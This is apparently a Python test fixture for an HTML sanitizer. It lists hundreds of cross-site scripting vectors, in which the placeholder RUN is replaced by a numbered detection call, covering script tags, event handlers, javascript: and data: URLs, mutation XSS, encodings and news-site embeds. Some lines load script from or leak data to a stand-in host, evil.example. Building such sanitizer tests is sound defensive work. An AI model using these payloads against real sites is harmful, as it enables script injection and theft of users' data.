"""Markup that tries to run a script; `RUN` stands for the call that would show that it did.

Written after the ideas of the public lists: OWASP's filter evasion cheat sheet, html5sec, PortSwigger's cheat sheet and
Cure53's work on mutation XSS. The last groups aim at what our own code reads: lazy images, captions, embeds.
"""

SCRIPTS = r"""
<script>RUN</script>
<SCRIPT>RUN</SCRIPT>
<script >RUN</script >
<script/x>RUN</script>
<script src=//evil.example/x.js></script>
<script src="data:text/javascript,RUN"></script>
<script type=module>RUN</script>
<script>RUN
<<script>RUN//<</script>
<scr<script>ipt>RUN</scr</script>ipt>
<p><script>RUN</script>text</p>
<table><script>RUN</script><tr><td>x</table>
<noscript><script>RUN</script></noscript>
<div><template><script>RUN</script></template></div>
<script language=vbscript>RUN</script>
<script xlink:href="data:,RUN"></script>
<link rel=import href="data:text/html,<script>RUN</script>">
<link rel=stylesheet href="javascript:RUN">
<link rel=preload as=script href=//evil.example/p.js onload=RUN>
<meta http-equiv=refresh content="0;url=javascript:RUN">
<meta http-equiv=refresh content="0;url=data:text/html,<script>RUN</script>">
<base href="javascript:RUN//"><a href="x">click</a>
<base href=//evil.example/><img src=x.png alt=x>
"""

HANDLERS = r"""
<img src=x onerror=RUN>
<img src=x onerror="RUN">
<img src=x onerror='RUN'>
<img src=x onerror=`RUN`>
<img/src=x/onerror=RUN>
<img src=x oNeRrOr=RUN>
<img src="x" alt="a"onerror=RUN>
<img src=x:x onerror=RUN//
<image src=x onerror=RUN>
<IMG ""><script>RUN</script>">
<img src=x onerror&#61;RUN>
<img src=x onerror=&#82;UN>
<img srcset=x onerror=RUN>
<picture><source srcset=x onerror=RUN><img src=x onerror=RUN></picture>
<body onload=RUN>
<body onpageshow=RUN>
<body onhashchange=RUN>
<html onmouseover=RUN>
<p onclick=RUN>click</p>
<p onmouseover=RUN>over</p>
<p onpointerenter=RUN>enter</p>
<a href=# onclick=RUN>link</a>
<a href="https://news.example/" onfocus=RUN autofocus tabindex=1>focus</a>
<b onmouseenter=RUN>bold</b>
<div onwheel=RUN>wheel</div>
<div contenteditable oninput=RUN onpaste=RUN>type</div>
<details open ontoggle=RUN><summary>s</summary>x</details>
<dialog open oncancel=RUN onclose=RUN>x</dialog>
<input autofocus onfocus=RUN>
<input type=image src=x onerror=RUN>
<select autofocus onfocus=RUN><option>x</select>
<textarea autofocus onfocus=RUN>x</textarea>
<button autofocus onfocus=RUN>x</button>
<keygen autofocus onfocus=RUN>
<form onsubmit=RUN><button>x</button></form>
<form><button formaction=javascript:RUN>x</button></form>
<form action=javascript:RUN><input type=submit></form>
<isindex action=javascript:RUN type=image>
<video src=x onerror=RUN></video>
<video><source onerror=RUN src=x></video>
<video poster=javascript:RUN></video>
<audio src=x onerror=RUN></audio>
<marquee onstart=RUN>x</marquee>
<marquee loop=1 width=0 onfinish=RUN>x</marquee>
<object data=x onerror=RUN></object>
<embed src=x onload=RUN>
<iframe onload=RUN></iframe>
<iframe src=x onerror=RUN onload=RUN>
<frameset onload=RUN><frame src=x></frameset>
<style onload=RUN></style>
<style>@import "x"</style onload=RUN>
<svg onload=RUN>
<svg/onload=RUN>
<blockquote class=twitter-tweet onclick=RUN>post</blockquote>
<td onclick=RUN>cell</td>
<table background=javascript:RUN onclick=RUN><tr><td background="javascript:RUN" onclick=RUN>x</table>
<li onclick=RUN>item</li>
<ul onscroll=RUN><li>item</ul>
<h2 onclick=RUN>head</h2>
<hr onclick=RUN>
<br onclick=RUN>
<pre onclick=RUN>pre</pre>
<figure onclick=RUN><img src=https://news.example/a.jpg onload=RUN><figcaption onclick=RUN>c</figcaption></figure>
<p style="animation:x" onanimationstart=RUN>x</p>
<x onclick=RUN>unknown</x>
<x-y onclick=RUN>custom</x-y>
<p popover id=q onbeforetoggle=RUN>x</p><button popovertarget=q>y</button>
"""

ADDRESSES = r"""
<a href=javascript:RUN>x</a>
<a href="JaVaScRiPt:RUN">x</a>
<a href=" javascript:RUN">x</a>
<a href="&#1;javascript:RUN">x</a>
<a href="&#14; javascript:RUN">x</a>
<a href="java&#9;script:RUN">x</a>
<a href="java&#10;script:RUN">x</a>
<a href="java&#13;script:RUN">x</a>
<a href="java&Tab;script:RUN">x</a>
<a href="java&NewLine;script:RUN">x</a>
<a href="javascript&colon;RUN">x</a>
<a href="javascript&#58;RUN">x</a>
<a href="&#106;&#97;&#118;&#97;script:RUN">x</a>
<a href="&#x6A&#x61vascript:RUN">x</a>
<a href="&#0000106avascript:RUN">x</a>
<a href="javascript://news.example/%0aRUN">x</a>
<a href="javascript:https://news.example/;RUN">x</a>
<a href="https:javascript:RUN">x</a>
<a href="view-source:javascript:RUN">x</a>
<a href="feed:javascript:RUN">x</a>
<a href="jar:javascript:RUN!/">x</a>
<a href="vbscript:RUN">x</a>
<a href="livescript:RUN">x</a>
<a href="mocha:RUN">x</a>
<a href="data:text/html,<script>RUN</script>">x</a>
<a href="data:text/html;base64,PHNjcmlwdD5SVU48L3NjcmlwdD4=">x</a>
<a href="DATA:text/html,x" target=_blank>x</a>
<a href="blob:https://news.example/RUN">x</a>
<a href="filesystem:https://news.example/RUN">x</a>
<a href="file:///etc/passwd">x</a>
<a href="about:blank">x</a>
<a href="ftp://evil.example/x">x</a>
<a href="intent://evil#Intent;end">x</a>
<a href="//evil.example\@news.example/">x</a>
<a href="https://news.example@evil.example/">x</a>
<a href="\\evil.example/x">x</a>
<a href="http:///evil.example">x</a>
<a href="mailto:a@b.example?body=javascript:RUN">x</a>
<a href="mailto:&quot;><script>RUN</script>">x</a>
<a href="tel:&quot; onclick=RUN">x</a>
<a href='https://news.example/"onmouseover="RUN'>x</a>
<a href="https://news.example/'onmouseover='RUN">x</a>
<a href="https://news.example/`onmouseover=`RUN">x</a>
<a href="https://news.example/&quot;><script>RUN</script>">x</a>
<a href="https://news.example/><img src=x onerror=RUN>">x</a>
<a href="https://[::1]:99999/">x</a>
<a href="https://%00.example/">x</a>
<a ping="https://evil.example/p" href="https://news.example/">x</a>
<a href="https://news.example/" download=x.exe target=_top rel=opener>x</a>
<a xlink:href="javascript:RUN">x</a>
<a href="javascript:RUN"><b><i>nested</i></b></a>
<area href=javascript:RUN><map><area href=javascript:RUN></map>
<img src=javascript:RUN>
<img src="java	script:RUN">
<img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN'/>">
<img lowsrc=javascript:RUN dynsrc=javascript:RUN>
<img src="https://news.example/a.jpg" longdesc="javascript:RUN" usemap="#m">
<q cite=javascript:RUN>x</q><blockquote cite=javascript:RUN>x</blockquote><del cite=javascript:RUN>x</del>
<iframe src=javascript:RUN></iframe>
<iframe src="data:text/html,<script>RUN</script>"></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<object data=javascript:RUN></object>
<object data="data:text/html,<script>RUN</script>"></object>
<embed src=javascript:RUN>
<embed src="data:text/html,<script>parent.RUN</script>">
<applet code=x codebase=javascript:RUN></applet>
<param name=movie value=javascript:RUN>
"""

MUTATIONS = r"""
<svg><style><img src=x onerror=RUN></style></svg>
<svg><style>&lt;img src=x onerror=RUN&gt;</style></svg>
<svg></p><style><a id="</style><img src=x onerror=RUN>">
<svg><p><style><a title="</style><img src=x onerror=RUN>">
<math><mtext><table><mglyph><style><img src=x onerror=RUN></style></mglyph></table></mtext></math>
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=RUN&gt;">
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=RUN>
<math><mi><mglyph><svg><mtext><style><path id="</style><img onerror=RUN src>">
<math><annotation-xml encoding="text/html"><style><img src=x onerror=RUN></style></annotation-xml></math>
<math><annotation-xml encoding="application/xhtml+xml"><p><style></math><img src=x onerror=RUN>
<svg><foreignObject><p><style></svg><img src=x onerror=RUN></style></foreignObject></svg>
<svg><desc><noscript></svg><img src=x onerror=RUN></noscript></desc></svg>
<svg><title><style></title><img src=x onerror=RUN></style></svg>
<svg><a><svg><style><![CDATA[</style><img src=x onerror=RUN>]]>
<svg><![CDATA[><img src=x onerror=RUN>]]></svg>
<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>
<noscript><img src="https://news.example/a.jpg" alt="</noscript><script>RUN</script>"></noscript>
<noembed><p title="</noembed><img src=x onerror=RUN>"></noembed>
<noframes><p title="</noframes><img src=x onerror=RUN>"></noframes>
<xmp><p title="</xmp><img src=x onerror=RUN>"></xmp>
<iframe><p title="</iframe><img src=x onerror=RUN>"></iframe>
<textarea><p title="</textarea><img src=x onerror=RUN>"></textarea>
<title><p title="</title><img src=x onerror=RUN>"></title>
<select><option><style></option></select><img src=x onerror=RUN></style>
<select><template><p title="</template></select><img src=x onerror=RUN>">
<template><p title="</template><img src=x onerror=RUN>"></template>
<plaintext><img src=x onerror=RUN>
<listing>&lt;img src=x onerror=RUN&gt;</listing>
<pre>&lt;img src=x onerror=RUN&gt;</pre>
<xmp>&lt;img src=x onerror=RUN&gt;</xmp>
<p>&lt;img src=x onerror=RUN&gt;</p>
<p>&amp;lt;img src=x onerror=RUN&amp;gt;</p>
<code>&lt;/code&gt;&lt;script&gt;RUN&lt;/script&gt;</code>
<!--><img src=x onerror=RUN>-->
<!--!><img src=x onerror=RUN>-->
<!-- --!><img src=x onerror=RUN>
<!--<img src="--><img src=x onerror=RUN>//">
<![CDATA[<img src=x onerror=RUN>]]>
<?xml version="1.0"?><?php RUN ?><img src=x onerror=RUN>
<!doctype html [<!ENTITY x "<script>RUN</script>">]>&x;
<comment><img src="</comment><img src=x onerror=RUN>">
<style><img src="</style><img src=x onerror=RUN//">
<table><td><table><a href=https://news.example/><td><a href=javascript:RUN>x</table>
<table><a href="https://news.example/1"><tr><td><a href="https://news.example/2"><img src=x onerror=RUN>
<a href="https://news.example/1"><table><td><a href=javascript:RUN><b>x
<b><p><i></b><u><a href=javascript:RUN>x</u></i>
<p><b><b><b><b><i><i><i><i><p>x<img src=x onerror=RUN>
<h2><h3><p><h4 onclick=RUN>x</h2>
<ul><p><li><table><li><img src=x onerror=RUN>
<p><table><p><img src=x onerror=RUN></table></p>
<button><p><button><img src=x onerror=RUN>
<frameset><noframes><img src=x onerror=RUN></noframes></frameset>
<ruby><rt><style></ruby><img src=x onerror=RUN></style></rt>
<svg><use href="data:image/svg+xml,<svg id='x'><image href='1' onerror='RUN'/></svg>#x"/></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s>
<svg><animate xlink:href=#x attributeName=href values=javascript:RUN /><a id=x><text x=20 y=20>x</text></a>
<svg><set attributeName=onmouseover to=RUN>
<svg><a xlink:href="javascript:RUN"><text>x</text></a></svg>
<svg><script>RUN</script></svg>
<svg><script href="data:,RUN" />
<svg><script>&#82;UN</script>
<svg><image href=x onerror=RUN></svg>
<svg><handler xmlns:ev="http://www.w3.org/2001/xml-events" ev:event="load">RUN</handler></svg>
<math href="javascript:RUN"><mi>x</mi></math>
<math><maction actiontype="statusline#https://news.example" xlink:href="javascript:RUN">x</maction></math>
<math><mi xlink:href="data:x,<script>RUN</script>">x</mi></math>
"""

STYLES = r"""
<p style="background:url(javascript:RUN)">x</p>
<p style="width:expression(RUN)">x</p>
<p style="-moz-binding:url(//evil.example/x.xml#x)">x</p>
<p style="behavior:url(x.htc)">x</p>
<p style="background:url(https://evil.example/leak)">x</p>
<style>*{background:url(https://evil.example/leak)}</style>
<style>@import url(https://evil.example/x.css);</style>
<p style="color:red" class=x id=y name=z>x</p>
<font color="red" face="javascript:RUN">x</font>
<img src=https://news.example/a.jpg style="position:fixed;inset:0" onerror=RUN>
"""

ENCODINGS = r"""
+ADw-script+AD4-RUN+ADw-/script+AD4-
<img src=x onerror=\u0052UN>
<%00script>RUN</script>
<scri%00pt>RUN</scri%00pt>
<img src=x on%00error=RUN>
<a href="java%00script:RUN">x</a>
<a href="java&#0;script:RUN">x</a>
<a href="java&#xD800;script:RUN">x</a>
<a href="java&#173;script:RUN">x</a>
<a href="java&#8203;script:RUN">x</a>
<a href="&#65279;javascript:RUN">x</a>
<a href="&#160;javascript:RUN">x</a>
<a href="&#8232;javascript:RUN">x</a>
<p>&#x202e;txet</p><p>&#xFEFF;&#0;&#xD83D;</p>
<a href="https://news.example/&#x202e;gpj.exe">x</a>
{{constructor.constructor('RUN')()}}
${RUN} #{RUN} <%= RUN %> [[RUN]]
<p id=location name=location>clobber</p><a id=document name=cookie href=x>x</a>
<img name=getElementById src=x><form id=body><input name=children></form>
<p is="x-y" slot=x part=y>x</p>
"""

OUR_OWN_PATHS = r"""
<img src="https://news.example/a.jpg" alt='"><script>RUN</script>'>
<img src="https://news.example/a.jpg" alt='" onerror="RUN'>
<img src="https://news.example/a.jpg" alt="' onerror='RUN">
<img src="https://news.example/a.jpg" alt="` onerror=`RUN">
<img src="https://news.example/a.jpg" alt="--><script>RUN</script>" width="100 onerror=RUN" height="9&quot;onload=RUN">
<img src='https://news.example/a.jpg"onerror="RUN'>
<img src="https://news.example/a.jpg'onerror='RUN">
<img data-src='https://news.example/"><script>RUN</script>.jpg' src=x>
<img srcset='https://news.example/"onerror=RUN 100w, javascript:RUN 900w'>
<img srcset="javascript:RUN 2000w, https://news.example/a.jpg 100w">
<img data-srcset="data:text/html,RUN 2000w" src="https://news.example/a.jpg">
<picture><source srcset="javascript:RUN 3000w" type='"><script>RUN</script>'><img src=https://news.example/a.jpg></picture>
<amp-img src="javascript:RUN" onerror=RUN layout=fill></amp-img>
<amp-img src='https://news.example/a.jpg" onerror="RUN' alt='"><img src=x onerror=RUN>'></amp-img>
<img class=emoji alt="♥<img src=x onerror=RUN>" src=x>
<img class=emoji alt="♥&lt;b&gt;" src=https://news.example/emoji/x.png>
<figure><img src=https://news.example/a.jpg><figcaption><img src=x onerror=RUN>&lt;script&gt;RUN</figcaption></figure>
<figure><img src=https://news.example/b.jpg><figcaption>x<cite>&lt;/cite&gt;&lt;script&gt;RUN</cite></figcaption></figure>
<figure><a href="https://www.youtube.com/embed/abcdefghijk"><script>RUN</script>x</a></figure>
<figure><a href="javascript:RUN">only link</a></figure>
<iframe src='https://www.youtube.com/embed/"><script>RUN</script>'></iframe>
<iframe src='https://evil.example/"onclick="RUN'></iframe>
<iframe data-src="javascript:RUN"></iframe>
<video><source src="javascript:RUN"></video>
<div data-tweet-id='1"><script>RUN</script>'></div>
<div class=twitter-tweet data-tweet-id="javascript:RUN">x</div>
<blockquote class=instagram-media data-instgrm-permalink="javascript:RUN">x</blockquote>
<blockquote class=tiktok-embed cite='https://www.tiktok.com/@x/video/1"onclick="RUN'>x</blockquote>
<div data-oembed-url="javascript:RUN" data-embed-url='"><script>RUN</script>'>x</div>
<div data-canonical-url='https://x.example/"><img src=x onerror=RUN>'></div>
<script async data-telegram-post='x/1"><script>RUN</script>'></script>
<gu-island name=YoutubeBlockComponent props='{"assetId":"&quot;><script>RUN</script>"}'></gu-island>
<gu-island name=EmbedBlockComponent props='{"embedUrl":"javascript:RUN","url":"data:,RUN"}'></gu-island>
<amp-iframe src="https://cdn.embedly.com/w?url=javascript:RUN"></amp-iframe>
<iframe src="https://www.facebook.com/plugins/post.php?href=javascript%3ARUN"></iframe>
<iframe src="https://w.soundcloud.com/player/?url=javascript%3ARUN"></iframe>
<table><caption><script>RUN</script>c</caption><tr><td colspan='2" onclick="RUN' rowspan="javascript:RUN">x</table>
<table><tr><td colspan=99999999999 rowspan=65534>x</table>
<ol start='1" onclick="RUN' type='"><script>RUN</script>'><li value='"onclick=RUN'>x</ol>
<q><script>RUN</script>&lt;script&gt;RUN&lt;/script&gt;</q>
<pre>
&lt;/pre&gt;&lt;script&gt;RUN&lt;/script&gt;</pre>
<p>Read more: <a href="javascript:RUN">x</a></p>
<time datetime='"><script>RUN</script>'>x</time>
"""


def vectors(
    *groups: str,
) -> list[str]:
    """Each line of some groups (none: of all), numbered by its call, `ran(7)`. "%00" stands for the character NUL."""
    every = (SCRIPTS, HANDLERS, ADDRESSES, MUTATIONS, STYLES, ENCODINGS, OUR_OWN_PATHS)
    lines = [line for group in groups or every for line in group.splitlines() if line]
    return [line.replace("%00", "\0").replace("RUN", f"ran({number})") for number, line in enumerate(lines)]
